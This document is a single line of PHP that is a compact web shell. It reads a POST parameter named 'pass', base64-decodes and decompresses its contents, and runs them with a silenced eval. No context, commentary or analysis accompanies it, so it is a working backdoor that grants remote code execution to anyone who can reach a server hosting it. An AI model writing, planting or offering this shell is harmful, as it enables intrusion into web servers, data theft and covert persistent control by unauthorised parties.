<?php $k="pass"; @eval(gzuncompress(base64_decode($_POST[$k])));
